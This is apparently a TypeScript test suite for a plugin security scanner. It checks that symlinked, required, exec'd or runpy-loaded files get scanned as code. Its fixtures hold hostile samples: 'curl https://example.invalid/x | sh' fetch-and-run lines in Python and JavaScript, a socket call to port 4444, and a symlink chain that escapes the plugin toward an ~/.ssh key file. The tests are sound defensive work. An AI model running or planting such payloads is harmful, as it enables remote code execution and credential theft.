/**
 * What the runtime can execute is scanned as code, whatever its name (D21): a symlink's target
 * under the link's name, files that code loads with `require`, `exec(open(...).read())`,
 * `runpy` or a source loader, and text that parses as code. A link leading out of the plugin
 * is a high finding, and a load whose file cannot be known is reported (the install gate counts
 * it like a high one). Honest data files stay quiet.
 * Symlinks are made at run time: absolute links in committed fixtures would be fragile.
 */
import assert from 'node:assert/strict';
import { mkdirSync, realpathSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join, relative } from 'node:path';
import { test } from 'node:test';
import { findCodeLoads } from '../../src/scan/files/loaded-code.ts';
import type { ScanReport } from '../../src/scan/index.ts';
import { makeTempDir } from '../helpers/temp.ts';
import { scan } from './support.ts';

function plugin(files: Record<string, string | Buffer>): string {
	const dir = makeTempDir('vouch-scan-loaded-');
	for (const [name, content] of Object.entries(files)) {
		mkdirSync(dirname(join(dir, name)), { recursive: true });
		writeFileSync(join(dir, name), content);
	}
	return dir;
}

function high(report: ScanReport, file?: string) {
	return report.findings.filter(
		(f) => f.severity === 'high' && (file === undefined || f.file === file),
	);
}

function rulesAt(report: ScanReport, file: string): string[] {
	return [...new Set(report.findings.filter((f) => f.file === file).map((f) => f.ruleId))].sort();
}

const SHELL_PAYLOAD = 'import os\nos.system("curl -s https://example.invalid/x | sh")\n';

test('an __init__.py that links to payload.txt is scanned as Python under the link’s name', async () => {
	const dir = plugin({ 'payload.txt': SHELL_PAYLOAD, 'MANIFEST.toml': 'x' });
	symlinkSync('payload.txt', join(dir, '__init__.py'));
	const report = await scan(dir);
	assert.ok(high(report, '__init__.py').length > 0, JSON.stringify(report.findings));
	assert.ok(rulesAt(report, '__init__.py').includes('process-spawn'));
	assert.ok(report.capabilities.inferred.includes('subprocess'));
	// The link's target stays inside: it is no coverage problem.
	assert.equal(
		report.findings.some((f) => f.ruleId === 'link-outside-plugin'),
		false,
	);
});

test('a link through an in-plugin symlinked directory to the user’s home is a high finding', async () => {
	const home = makeTempDir('vouch-scan-home-');
	mkdirSync(join(home, '.ssh'));
	writeFileSync(join(home, '.ssh', 'id_ed25519.py'), SHELL_PAYLOAD);
	const dir = plugin({ '__init__.py': 'X = 1\n' });
	const depth = dir.split('/').length - 1;
	// `d0/.../dN/up` really is `d0`; read as text, `up/..` just cancels `up`. So after `up`, the
	// text is N levels deeper than the real path, enough to climb to `/` while the text stays
	// inside the plugin, then go down to the home directory.
	const chain = Array.from({ length: depth + 2 }, (_, i) => `d${i}`);
	mkdirSync(join(dir, ...chain), { recursive: true });
	symlinkSync('../'.repeat(chain.length - 1), join(dir, ...chain, 'up'));
	const climb = `${chain.join('/')}/up/${'../'.repeat(depth + 1)}`;
	const target = `${climb}${relative('/', join(home, '.ssh', 'id_ed25519.py'))}`;
	symlinkSync(target, join(dir, 'keys.py'));
	// It really reaches the home directory, while its text, read as a path, stays inside.
	assert.equal(
		realpathSync.native(join(dir, 'keys.py')),
		realpathSync.native(join(home, '.ssh', 'id_ed25519.py')),
	);
	assert.equal(relative(dir, join(dir, target)).startsWith('..'), false);
	const report = await scan(dir);
	const link = report.findings.find((f) => f.file === 'keys.py');
	assert.equal(link?.ruleId, 'link-outside-plugin');
	assert.equal(link?.severity, 'high');
	assert.deepEqual(rulesAt(report, 'keys.py'), ['link-outside-plugin']);
	assert.equal(report.capabilities.inferred.includes('subprocess'), false);
	// Dangling links and loops are refused alike.
	symlinkSync('nowhere.py', join(dir, 'dangling.py'));
	symlinkSync('loop-b.py', join(dir, 'loop-a.py'));
	symlinkSync('loop-a.py', join(dir, 'loop-b.py'));
	const again = await scan(dir);
	for (const name of ['dangling.py', 'loop-a.py', 'loop-b.py', 'keys.py']) {
		assert.deepEqual(rulesAt(again, name), ['link-outside-plugin'], name);
	}
});

test('require of a .txt file scans it as JavaScript', async () => {
	const dir = plugin({
		'index.js': "const helper = require('./helper.txt');\nmodule.exports = helper;\n",
		'helper.txt': "require('child_process').execSync('curl https://example.invalid | sh');\n",
		'lib/plain': "require('child_process').exec(process.argv[2]);\n",
		'lib/index.js': "module.exports = require('./plain');\n",
	});
	const report = await scan(dir);
	assert.ok(rulesAt(report, 'helper.txt').includes('process-spawn'), JSON.stringify(report));
	assert.ok(high(report, 'helper.txt').length > 0);
	assert.ok(rulesAt(report, 'lib/plain').includes('file-loaded-as-code'));
	assert.ok(rulesAt(report, 'lib/plain').some((rule) => rule.startsWith('process-')));
});

test('exec(open(...).read()), runpy.run_path and source loaders scan the file as Python', async () => {
	const dir = plugin({
		'__init__.py': [
			'import os, runpy',
			'from importlib.machinery import SourceFileLoader',
			'from pathlib import Path',
			"exec(open('data.dat').read())",
			"runpy.run_path(os.path.join(os.path.dirname(__file__), 'assets', 'run.bin'))",
			"SourceFileLoader('m', 'loader.cfg').load_module()",
			"exec((Path(__file__).parent / 'pathlib.dat').read_text())",
			'',
		].join('\n'),
		'data.dat': SHELL_PAYLOAD,
		'assets/run.bin': 'import socket\nsocket.create_connection(("example.invalid", 4444))\n',
		'loader.cfg': SHELL_PAYLOAD,
		'pathlib.dat': SHELL_PAYLOAD,
	});
	const report = await scan(dir);
	for (const file of ['data.dat', 'loader.cfg', 'pathlib.dat']) {
		assert.ok(rulesAt(report, file).includes('process-spawn'), file);
		assert.ok(rulesAt(report, file).includes('file-loaded-as-code'), file);
	}
	assert.ok(rulesAt(report, 'assets/run.bin').includes('network'));
	assert.ok(report.capabilities.inferred.includes('network'));
	assert.equal(
		report.findings.some((f) => f.ruleId === 'code-load-unknown'),
		false,
	);
});

test('a load from a computed path, or from a file the plugin does not ship, is reported', async () => {
	const dir = plugin({
		'__init__.py':
			"import runpy\n\ndef enable(api):\n    name = api.name + '.dat'\n    runpy.run_path(name)\n    exec(open('downloaded.py').read())\n",
		'loader.js': "module.exports = (n) => require(__dirname + '/' + n);\n",
	});
	const report = await scan(dir);
	const unknown = report.findings
		.filter((f) => f.ruleId === 'code-load-unknown')
		.map((f) => `${f.file}:${f.line}:${f.severity}`)
		.sort();
	assert.deepEqual(unknown, ['__init__.py:5:medium', '__init__.py:6:medium', 'loader.js:1:medium']);
});

test('text that parses cleanly as code is scanned as code; .pth import lines are Python', async () => {
	const dir = plugin({
		'__init__.py': 'X = 1\n',
		'settings.ini': SHELL_PAYLOAD,
		'hook.pth': `/some/path\nimport os; os.system("id")\n`,
	});
	const report = await scan(dir);
	assert.ok(rulesAt(report, 'settings.ini').includes('process-spawn'));
	assert.ok(rulesAt(report, 'hook.pth').includes('process-spawn'));
});

const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]);

test('honest data files give no findings: JSON, prose, Qt .ui XML, images, CSS', async () => {
	const dir = plugin({
		'__init__.py':
			'import json, os\n\nHERE = os.path.dirname(__file__)\n\ndef settings():\n    with open(os.path.join(HERE, "defaults.json")) as f:\n        return json.load(f)\n',
		'defaults.json':
			'{"url": "https://example.org/api", "path": "~/.ssh/config", "run": "os.system"}\n',
		'README.txt':
			'This plugin tags your files.\n\nUse os.system carefully; we never call eval() here.\nSee https://example.org for more.\n',
		'notes.md': '# Notes\n\n```python\nimport os\nos.system("ls")\n```\n',
		'options.ui':
			'<?xml version="1.0" encoding="UTF-8"?>\n<ui version="4.0">\n <class>Options</class>\n <widget class="QWidget" name="Options"/>\n</ui>\n',
		'style.css': 'body { color: red; }\n',
		'icon.png': PNG,
		VERSION: '1.2.3\n',
		LICENSE:
			'MIT License\n\nCopyright (c) 2024 Someone\n\nPermission is hereby granted, free of charge...\n',
	});
	const report = await scan(dir);
	const noisy = report.findings.filter(
		(f) => f.file !== '__init__.py' && f.file !== 'MANIFEST.toml',
	);
	assert.deepEqual(
		noisy.map((f) => `${f.file} ${f.ruleId}`),
		[],
	);
	assert.equal(high(report).length, 0);
});

test('writing a file of code at run time is reported: what it will run was never scanned', async () => {
	const dir = plugin({
		'__init__.py': [
			'import os, importlib, urllib.request',
			'HERE = os.path.dirname(__file__)',
			'def refresh():',
			'    source = urllib.request.urlopen("https://example.invalid/ext.py").read()',
			'    with open(os.path.join(HERE, "ext_loader.py"), "wb") as fh:',
			'        fh.write(source)',
			'    importlib.import_module(__name__ + ".ext_loader")',
			'def save(values):',
			'    with open(os.path.join(HERE, "cache.json"), "w") as fh:',
			'        fh.write(values)',
			'',
		].join('\n'),
	});
	const report = await scan(dir);
	const unknown = report.findings.filter((f) => f.ruleId === 'code-load-unknown');
	assert.deepEqual(
		unknown.map((f) => `${f.file}:${f.line}:${f.severity}`),
		['__init__.py:5:medium'],
	);
});

test('the loads read from one file are bounded, and an unclosed call list is no load', () => {
	const many = findCodeLoads("require('./x.txt');\n".repeat(50_000), 'javascript');
	assert.equal(many.length, 100);
	assert.equal(many[99]?.line, 100);
	assert.deepEqual(findCodeLoads(`exec(open('a.dat').read(${'('.repeat(3000)}`, 'python'), []);
	assert.deepEqual(findCodeLoads(`x = open(${'('.repeat(3000)}`, 'python'), []);
});
